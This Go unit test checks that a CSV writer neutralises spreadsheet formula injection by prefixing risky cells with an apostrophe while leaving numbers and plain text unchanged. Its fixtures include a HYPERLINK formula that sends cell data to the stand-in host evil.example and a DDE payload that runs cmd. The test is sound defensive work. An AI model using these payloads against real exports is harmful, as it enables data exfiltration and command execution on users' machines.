package frontend

import (
	"strings"
	"testing"
)

func TestCSVWriterNeutralizesFormulas(t *testing.T) {
	cases := []struct {
		cells []string
		want  string
	}{
		{[]string{`=HYPERLINK("https://evil.example/?d="&A1,"open")`, "3"}, `"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",3` + "\n"},
		{[]string{"@SUM(A1:A9)", "+1+cmd|' /C calc'!A0"}, "'@SUM(A1:A9),'+1+cmd|' /C calc'!A0\n"},
		{[]string{"-2+3", "\t=1+1", "\r=1+1"}, "'-2+3,'\t=1+1,\"'\r=1+1\"\n"},
		{[]string{"-Inf", "-0x1p-2"}, "'-Inf,'-0x1p-2\n"},
		// Numbers stay numbers, and other text stays as it is.
		{[]string{"-12.5", "+3", "-1e-3", "42", "0.5"}, "-12.5,+3,-1e-3,42,0.5\n"},
		{[]string{"GET /checkout", "a=b", "", "user@example.com", "it's"}, "GET /checkout,a=b,,user@example.com,it's\n"},
	}
	for _, tc := range cases {
		var b strings.Builder
		w := newCSVWriter(&b)
		if err := w.Write(tc.cells); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if b.String() != tc.want {
			t.Errorf("%q\n got %q\nwant %q", tc.cells, b.String(), tc.want)
		}
	}
}
